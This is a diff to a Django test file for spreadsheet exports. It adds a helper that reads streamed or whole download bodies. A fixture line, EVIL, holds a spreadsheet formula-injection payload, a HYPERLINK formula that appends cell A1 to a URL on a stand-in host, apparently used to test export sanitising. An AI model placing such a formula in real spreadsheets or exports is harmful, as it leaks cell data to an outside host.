@@ -17,9 +17,14 @@ pytestmark = pytest.mark.django_db
 EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
 
 
+def body(response) -> bytes:
+    """The download's bytes, whether it is sent whole or streamed (the item list's export)."""
+    return b"".join(response.streaming_content) if response.streaming else response.content
+
+
 def sheet_cells(response, sheet=None):
     assert response.status_code == 200, response.status_code
-    wb = load_workbook(io.BytesIO(response.content))
+    wb = load_workbook(io.BytesIO(body(response)))
     ws = wb[sheet] if sheet else wb.active
     return [cell for row in ws.iter_rows() for cell in row if cell.value is not None]
 
@@ -81,7 +86,7 @@ def test_it_exports_the_requests_list_whose_title_has_a_slash(cast, login):
     with_request(cast, "extension")
     response = login(cast.staff).get(reverse("petitions:requests"), {"export": "xlsx"})
     assert response.status_code == 200
-    assert load_workbook(io.BytesIO(response.content)).sheetnames == ["延期-退回申请"]
+    assert load_workbook(io.BytesIO(body(response))).sheetnames == ["延期-退回申请"]
 
 
 def test_it_makes_any_text_a_valid_sheet_title():
